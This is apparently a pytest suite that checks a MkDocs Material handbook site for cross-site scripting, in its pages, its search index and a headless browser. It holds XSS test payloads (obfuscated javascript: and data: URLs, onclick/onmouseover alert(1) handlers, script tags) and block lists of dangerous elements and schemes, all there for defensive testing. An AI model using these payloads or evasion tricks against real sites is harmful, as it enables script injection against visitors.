        assert title[0].text == f"{proposal.rstrip(': ') + ' ' if proposal else ''}{pid} · {data['title']} - Harbour & Pine Service Handbook"


def _listing(found: list[str], limit: int = 25) -> str:
    """Findings for a failure message: how many, then the first of them, one a line."""
    return f"{len(found)} found:\n" + "\n".join(found[:limit]) + ("\n..." if len(found) > limit else "")


# --------------------------------------------------------------------------------------
# What the theme itself puts on a page, and nothing more
# --------------------------------------------------------------------------------------

_JAVASCRIPTS = MATERIAL / "templates" / "assets" / "javascripts"
_BUNDLE = sorted(_JAVASCRIPTS.glob("bundle.*.min.js"))[0].name
#: The site's base as the theme writes it on a page: relative (`..`, `../..`, `.`), or the
#: site's root path on the 404 page, which any folder may serve.
_RELATIVE_BASE = r"(?:\.\./)*\.\.|\.|/"
#: Material's external script: the bundle, addressed relative to the page (or to the root).
_BUNDLE_SRC = re.compile(rf"(?:\.\./)*/?assets/javascripts/{re.escape(_BUNDLE)}")
#: The handbook's own scripts (mkdocs.yml's `extra_javascript`, from the hand-written docs
#: folder), addressed the same way; nothing a policy can name.
_OWN_SCRIPTS = re.compile(
    "|".join(rf"(?:\.\./)*/?{re.escape(name)}" for name in mkdocs_yml()["extra_javascript"])
)
#: Material's search "share" button is a link that does nothing by itself (its script copies
#: the address): the only `javascript:` URL allowed, on exactly that element, outside content.
_SHARE_BUTTON = [
    ("href", "javascript:void(0)"), ("class", "md-search__icon md-icon"), ("title", "Share"), ("aria-label", "Share"),
    ("data-clipboard", ""), ("data-clipboard-text", ""), ("data-md-component", "search-share"), ("tabindex", "-1"),
]


def _material_inline_scripts() -> list[re.Pattern[str]]:
    """Material's inline scripts, exactly as its templates write them; a `{{ ... }}` in a
    template is the page's relative base URL (`..`, `../..`, `.`) in the built page."""
    patterns = []
    for template in sorted((MATERIAL / "templates" / "partials" / "javascripts").glob("*.html")):
        for body in re.findall(r"<script>(.*?)</script>", template.read_text(encoding="utf-8"), re.S):
            parts = re.split(r"\{\{.*?\}\}", body)
            patterns.append(re.compile(f"(?:{_RELATIVE_BASE})".join(map(re.escape, parts))))
    assert len(patterns) >= 3
    return patterns


_INLINE_SCRIPTS = _material_inline_scripts()
_CONFIG_KEYS = {"annotate", "base", "features", "search", "tags", "translations", "version"}
_FEATURES = mkdocs_yml()["theme"]["features"]


def _material_config_problem(tag: Tag) -> str | None:
    """Material's `<script id="__config" type="application/json">`: JSON data, never run, with
    exactly the keys and values the theme writes (base URL, features, worker, translations)."""
    try:
        config = json.loads(tag.text)
    except ValueError:
        return "the theme's config is not JSON"
    if set(config) != _CONFIG_KEYS:
        return f"the theme's config has keys {sorted(config)}"
    base = config["base"]
    if not re.fullmatch(_RELATIVE_BASE, base):
        return f"the theme's config has base {base!r}"
    if not re.fullmatch(rf"(?:{re.escape(base.rstrip('/'))}/)?assets/javascripts/workers/{re.escape(_WORKER)}", config["search"]):
        return f"the theme's config has search worker {config['search']!r}"
    if config["features"] != _FEATURES or any(config[k] is not None for k in ("annotate", "tags", "version")):
        return "the theme's config is not the project's"
    if any(not isinstance(v, str) or re.search(r"[<>&\"]", v) for v in config["translations"].values()):
        return "the theme's translations hold markup"
    return None


def _script_problem(tag: Tag) -> str | None:
    attrs = dict(tag.attrs)
    if set(attrs) == {"src"} and (_BUNDLE_SRC.fullmatch(attrs["src"]) or _OWN_SCRIPTS.fullmatch(attrs["src"])) and not tag.text.strip() and not tag.in_article:
        return None
    if tag.attrs == [("id", "__config"), ("type", "application/json")] and tag.in_body and not tag.in_article:
        return _material_config_problem(tag)
    if not tag.attrs and any(p.fullmatch(tag.text) for p in _INLINE_SCRIPTS):
        return None
    return f"script {tag.raw} {tag.text[:80]!r}"


#: Attributes a browser follows or loads as a URL.
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite", "codebase", "ping", "longdesc",
    "lowsrc", "dynsrc", "manifest", "icon", "srcset", "imagesrcset", "archive", "classid", "usemap", "itemtype", "profile",
}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
_ASCII_SPACE_AND_CONTROL = re.compile(r"[\x00-\x20\x7f]")
#: Elements no page may have: they load, embed or run something, or reshape the document.
FORBIDDEN = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "noembed", "noframes", "plaintext", "xmp",
    "template", "math", "animate", "set", "handler", "listener", "image", "isindex", "marquee", "video", "audio", "source",
    "track", "picture", "canvas", "textarea", "select", "option", "foreignobject", "param", "dialog", "slot",
}
#: What content may be made of: the tags the sanitiser keeps (README: an allowlist).
CONTENT_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "del", "details", "div", "dl", "dt", "em",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "s", "small",
    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
}
#: The only images a page may load: the scorecard's own charts (an image from content keeps no address).
CHART_SRC = re.compile(r"((\.\./)*scorecard/)?[A-Za-z0-9][A-Za-z0-9_-]*\.svg")
CONTENT_SCHEMES = {"http", "https", "mailto"}


def _normalised_url(value: str) -> str:
    """An attribute's URL as a browser reads its scheme: already HTML-unescaped by the parser,
    then without ASCII whitespace and control characters, lower-cased."""
    return _ASCII_SPACE_AND_CONTROL.sub("", value).lower()


def _theme_element(tag: Tag) -> bool:
    """Parts of the article the theme draws: the tags list and the edit button's icon."""
    in_edit_button = any(a.startswith("a.") and "md-content__button" in a.split(".") for a in tag.ancestors)
    return (tag.name == "nav" and tag.classes == {"md-tags"}) or (tag.name in ("svg", "path") and in_edit_button)


def live_script(page: Page) -> list[str]:
    """Everything on the page that could run script or load something from content."""
    found = []
    for tag in page.tags:
        where = f"{page.path}:{tag.line}"
        if tag.name == "script" and (problem := _script_problem(tag)):
            found.append(f"{where}: {problem}")
        if tag.name in FORBIDDEN:
            found.append(f"{where}: <{tag.name}> {tag.raw}")
        if tag.name in ("style", "link", "meta") and tag.in_body:
            found.append(f"{where}: <{tag.name}> in the body {tag.raw}")
        if tag.name == "meta" and tag.get("http-equiv") is not None:
            found.append(f"{where}: {tag.raw}")
        if tag.name == "form" and (tag.in_article or tag.classes != {"md-search__form"}):
            found.append(f"{where}: form from content {tag.raw}")
        if tag.name == "img" and (tag.get("srcset") is not None or (tag.get("src") is not None and not CHART_SRC.fullmatch(tag.get("src") or ""))):
            found.append(f"{where}: an image that is not one of the scorecard's charts: {tag.raw}")
        if tag.in_article and tag.name not in CONTENT_TAGS and not _theme_element(tag):
            found.append(f"{where}: <{tag.name}> is not a content tag: {tag.raw}")
        for name, value in tag.attrs:
            if name.startswith("on"):
                found.append(f"{where}: event handler {name}={value!r} in {tag.raw}")
            if name in ("srcdoc", "style") and tag.in_article:
                found.append(f"{where}: {name}= from content in {tag.raw}")
            if name in URL_ATTRIBUTES:
                url = _normalised_url(value)
                if url.startswith(DANGEROUS_SCHEMES) and not (tag.name == "a" and tag.attrs == _SHARE_BUTTON and not tag.in_article):
                    found.append(f"{where}: {name}={value!r} in {tag.raw}")
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
                if tag.in_article and scheme and scheme.group(1) not in CONTENT_SCHEMES:
                    found.append(f"{where}: {name} with scheme {scheme.group(1)!r} from content in {tag.raw}")
    return found


def test_no_page_has_live_script(pages: list[Page]) -> None:
    """The whole of every page: only Material's own scripts, no event handlers, no script
    URLs, nothing embedded, no forms or styles or refreshes from content."""
    found = [finding for page in pages for finding in live_script(page)]
    assert found == [], _listing(found)


def test_no_markup_breaks_out_of_titles_or_attributes(pages: list[Page]) -> None:
    """Page titles and text put into attributes (`title`, `aria-label`, `content`: the theme
    writes headings and page titles there) stay inside them: <title> holds only text; those
    values hold no raw `<` or `>` in the source; and a value that escaped its quotes would show
    as a strange attribute name, or as a raw `<` inside a start tag."""
    found = []
    for page in pages:
        titles = re.findall(r"<title>(.*?)</title>", page.source, re.S)
        if len(titles) != 1 or re.search(r"[<>]", titles[0]):
            found.append(f"{page.path}: <title> {titles}")
        for tag in page.tags:
            where = f"{page.path}:{tag.line}"
            if "<" in tag.raw[1:] or not tag.raw.endswith(">"):
                found.append(f"{where}: raw < in a start tag: {tag.raw}")
            for name, double, single in re.findall(r"""\s(title|aria-label|content)=(?:"([^"]*)"|'([^']*)')""", tag.raw):
                if re.search(r"[<>]", double + single):
                    found.append(f"{where}: {name} holds raw markup: {tag.raw}")
            for name, _value in tag.attrs:
                if not re.fullmatch(r"[a-z][a-z0-9_.:-]*", name):
                    found.append(f"{where}: attribute name {name!r} in {tag.raw}")
    assert found == [], _listing(found)


def test_no_id_from_content_shadows_the_theme(pages: list[Page]) -> None:
    """The theme finds its parts by id (`#__config`, `#__search`, ...) with the first match in
    the document; an element from content with the same id comes first and is used instead.
    Material reads `#__config` as JSON and puts its translations into search results with
    innerHTML, so a policy that shadows it writes script into the page: with raw HTML
    (`<span id="__config">` in any Markdown field) or with a schema-valid reference link,
    `https://example.org/){:#__config}`, whose text, the reference's title, is the JSON."""
    found = []
    for page in pages:
        theme = {t.get("id") for t in page.tags if not t.in_article and t.get("id")}
        for tag in page.tags:
            ident = tag.get("id")
            if tag.in_article and ident and (ident in theme or ident.startswith("__")):
                found.append(f"{page.path}:{tag.line}: {tag.raw}")
            if tag.in_article and tag.get("name") is not None:
                found.append(f"{page.path}:{tag.line}: name= from content {tag.raw}")
    assert found == [], _listing(found)


@pytest.mark.parametrize(
    "snippet",
    [
        '<a href=" JaVa&#x09;Script:alert(1)">x</a>',
        '<a href="&#1;data:text/html,x">x</a>',
        "<span onclick=alert(1)>x</span>",
        "<script>alert(1)</script>",
        '<script src="../assets/javascripts/evil.js"></script>',
        "<iframe></iframe>",
        '<form action="https://example.org/"></form>',
        '<meta http-equiv="refresh" content="0">',
        '<svg><a xlink:href="vbscript:x">x</a></svg>',
        '<a href="livescript:x">x</a>',
    ],
)
def test_the_page_check_sees_live_script(snippet: str, tmp_path: Path) -> None:
    """The checks above would see each kind of live script, were it there."""
    page = tmp_path / "page.html"
    article = f'<article class="md-content__inner md-typeset">{snippet}</article>'
    page.write_text(f"<html><head><title>t</title></head><body>{article}</body></html>", encoding="utf-8")
    assert live_script(read_page(tmp_path, page)) != []


# --------------------------------------------------------------------------------------
# The search index
# --------------------------------------------------------------------------------------

#: The only markup Material's search plugin keeps in an entry's title and text; it escapes
#: every text node (material/plugins/search/plugin.py: `Parser`, `escape(data, quote=False)`).
_INDEX_TAGS = re.compile(r"</?(?:p|code|pre|li|ol|ul|sub|sup)>")


def test_the_search_index_holds_no_markup_the_search_ui_would_render(payload_site: PayloadSite) -> None:
    """How Material shows search results (templates/search/index.tsx, utilities/h): the
    worker only wraps matches in <mark>, then `renderSearchDocument` passes the entry's
    `title` and `text` to its JSX factory `h`, whose `appendChild` does `el.innerHTML +=
    string`. So both are HTML: any `<` in them other than the plugin's own bare tags would
    become an element, with its attributes, in the reader's page. Text such as
    `javascript:` or `onerror=` is harmless there (it is text, and no link is made from it);
    the link is made from `location`, which must stay a path in the site, and the tags are
    rendered the same way, so they must stay plain words. (On the page a result opens,
    `?h=` highlighting escapes the page's text before marking it: components/search/highlight.)"""
    index = json.loads((payload_site.site / "search" / "search_index.json").read_text(encoding="utf-8"))
    found = []
    for doc in index["docs"]:
        for name in ("title", "text"):
            rest = _INDEX_TAGS.sub("", doc[name])
            if "<" in rest:
                found.append(f"{doc['location']} {name}: {rest[max(rest.index('<') - 40, 0) : rest.index('<') + 80]!r}")
        if re.match(r"[a-z][a-z0-9+.-]*:|//", _normalised_url(doc["location"])):
            found.append(f"location {doc['location']!r}")
        found += [f"{doc['location']} tag {tag!r}" for tag in doc.get("tags", []) if not re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", tag)]
    assert found == [], _listing(found)
    texts = " ".join(doc["text"] for doc in index["docs"])
    assert "&lt;img src=x onerror=alert(1)&gt;" in texts  # the payloads were indexed, as text
    titles = {doc["location"]: doc["title"] for doc in index["docs"]}
    assert titles["policies/GR-001/"] == '" onmouseover="alert(1)'  # the title, as text
    assert titles["policies/SE-003/"] == "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"  # shows as typed


# --------------------------------------------------------------------------------------
# In a real browser
# --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def served_payload_site(payload_site: PayloadSite) -> Iterator[str]:
    """The payload handbook on localhost, as a static host would serve it."""
    assert payload_site.build.returncode == 0, payload_site.build.stderr
    with serving(payload_site.site) as url:
        yield url


#: Events whose inline handlers a payload could have planted, fired at every element.
_EVENTS = [
    "mouseover", "mouseenter", "mousemove", "mousedown", "mouseup", "mouseout", "pointerover", "pointerenter", "pointerdown",
    "focus", "focusin", "blur", "toggle", "load", "error", "animationstart", "transitionend", "beginEvent", "start", "input", "change",
]
_PROVOKE = """events => {
    const all = Array.from(document.querySelectorAll('*'));
    for (const el of all) {
        for (const type of events) el.dispatchEvent(new Event(type, {bubbles: false}));
        if (el.tagName === 'DETAILS') { el.open = !el.open; el.open = !el.open; }
    }
    for (const el of document.querySelectorAll('a[href], input, button, select, textarea, summary, [tabindex], [autofocus]')) {
        el.focus({preventScroll: true});
    }
    return all.length;
}"""


@dataclass
class Watch:
    """Everything the pages did that they must not: dialogs, errors, requests off localhost;
    and where clicks led."""

    host: str
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    followed: list[tuple[str, str]] = field(default_factory=list)
    where: str = ""
    clicking: bool = False


_ARTICLE_LINKS = "article.md-content__inner a[href]"
#: Clicks every same-page link (`#...`) in the article, one after another: such a click
#: never leaves the document, so it needs no reload, and it runs synchronously.
_CLICK_FRAGMENT_LINKS = """() => {
    const links = Array.from(document.querySelectorAll('article.md-content__inner a[href^="#"]'));
    for (const a of links) a.click();
    return links.length;
}"""


@pytest.mark.browser
def test_no_payload_runs_in_a_browser(served_payload_site: str, payload_site: PayloadSite) -> None:
    """Open every page that shows policy text, provoke every inline handler a payload could
    have planted, hover and tab through it, click every link in its article, search for a
    payload title and open the first result: no alert, confirm or prompt ever opens, nothing
    is logged as an error, and nothing is fetched from outside localhost.

    A click that would leave the page is recorded and stopped (the navigation is aborted, so
    the page stays as it was loaded): the site's pages it leads to are visited in their own
    right, and a source's http(s) link is the reader's choice to follow. Should a click
    change the page anyway, it is reloaded before the next one."""
    assert CHROMIUM.exists(), "make test installs Debian's chromium; run it through make"
    base = served_payload_site
    watch = Watch(urlparse(base).netloc)
    paths = [page_of(data) for data in payload_site.policies.values()]
    paths += [f"expected-of-me/{role}/" for role in ("everyone", "frontline", "manager", "executive", "support-functions")]
    paths += ["golden-rule/", "service-expectations/", "leader-commitments/", "policies/", "whats-new/", "tags/"]
    started = time.monotonic()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1280, "height": 900})

        def route(route: Any) -> None:
            request = route.request
            if watch.clicking and request.is_navigation_request() and request.frame.parent_frame is None:
                watch.followed.append((watch.where, request.url))
                route.abort("aborted")  # the page stays; where it led is checked below
            elif urlparse(request.url).netloc == watch.host:
                route.continue_()
            else:
                watch.outside.append(f"{watch.where}: {request.url}")
                route.abort()

        def dialog(d: Any) -> None:
            watch.dialogs.append(f"{watch.where}: {d.type}({d.message!r})")
            with contextlib.suppress(PlaywrightError):  # the page went away with the dialog open
                d.dismiss()

        def console(message: Any) -> None:
            if message.type == "error":
                watch.errors.append(f"{watch.where}: console: {message.text}")

        def watch_page(page: Any) -> None:
            page.on("dialog", dialog)
            page.on("console", console)
            page.on("pageerror", lambda exc: watch.errors.append(f"{watch.where}: page error: {exc}"))

        context.route("**/*", route)
        context.on("page", watch_page)
        page = context.new_page()

        def load(path: str) -> None:
            watch.clicking = False
            page.goto(base + path, wait_until="load")
            page.wait_for_timeout(100)

        for path in paths:
            watch.where = path
            load(path)
            page.evaluate(_PROVOKE, _EVENTS)
            for x, y in [(300, 150), (640, 300), (900, 450), (640, 600), (300, 750), (1000, 800)]:  # a real pointer
                page.mouse.move(x, y)
            for _ in range(6):
                page.keyboard.press("Tab")
            watch.where, watch.clicking = f"click {path} #...", True
            page.evaluate(_CLICK_FRAGMENT_LINKS)
            hrefs = page.eval_on_selector_all(_ARTICLE_LINKS, "els => els.map(e => e.getAttribute('href'))")
            seen: set[str] = set()
            for index, href in enumerate(hrefs):
                target = href if urlparse(href).scheme else href.split("#")[0]  # a page once, whatever its fragment
                if href.startswith("#") or target in seen:
                    continue
                seen.add(target)
                if page.url.split("#")[0] != base + path:
                    load(path)
                watch.where, watch.clicking = f"click {path} {href}", True
                page.evaluate("([selector, i]) => document.querySelectorAll(selector)[i].click()", [_ARTICLE_LINKS, index])
                page.wait_for_timeout(40)
            watch.clicking = False
        # search from a payload page (the theme's search UI writes results with innerHTML),
        # then for a payload title from the home page, and open the first result
        for path in ("policies/SE-001/", "policies/SE-002/"):  # shadowed by Markdown; by a title and a link
            watch.where = f"search on {path}"
            load(path)
            page.wait_for_load_state("networkidle")  # the search index has arrived
            search = page.locator("input.md-search__input")
            search.click()
            search.press_sequentially("onmouseover zzzqqq", delay=20)  # results, sections, a missing term
            page.wait_for_timeout(1_000)
            page.close()
            page = context.new_page()
        watch.where = "search from the home page"
        page = context.new_page()
        search = page.locator("input.md-search__input")
        load("")
        page.wait_for_load_state("networkidle")
        search.click()
        search.press_sequentially(payload_site.policies["GR-001"]["title"], delay=20)
        first = page.locator(".md-search-result__item a").first
        first.wait_for(timeout=10_000)
        page.wait_for_timeout(300)
        watch.where = "search result"
        first.click()
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)
        opened = page.url
        context.close()
        browser.close()
    elapsed = time.monotonic() - started
    print(f"browser: {len(paths)} pages, {elapsed:.0f} s")
    problems = {
        "dialogs": _tally(watch.dialogs),
        "errors": _tally(watch.errors),
        "requests off localhost": _tally(watch.outside),
        # a click may only lead to the site's pages or to an http(s) / mailto address
        "clicks to other schemes": _tally([f"{where} -> {url}" for where, url in watch.followed if urlparse(url).scheme not in ("http", "https", "mailto")]),
    }
    problems = {name: found for name, found in problems.items() if found}
    assert problems == {}, json.dumps(problems, indent=1, ensure_ascii=False)
    assert urlparse(opened).netloc == watch.host and (payload_site.site / urlparse(opened).path.strip("/") / "index.html").is_file(), opened
    assert elapsed < 120, f"the browser part took {elapsed:.0f} s"


def _tally(events: list[str]) -> dict[str, list[str]]:
    """What happened, each with every place it happened (a page, a click, a search)."""
    places: dict[str, list[str]] = {}
    for event in events:
        where, _, what = event.partition(": ")
        if where not in places.setdefault(what, []):
            places[what].append(where)
    return places
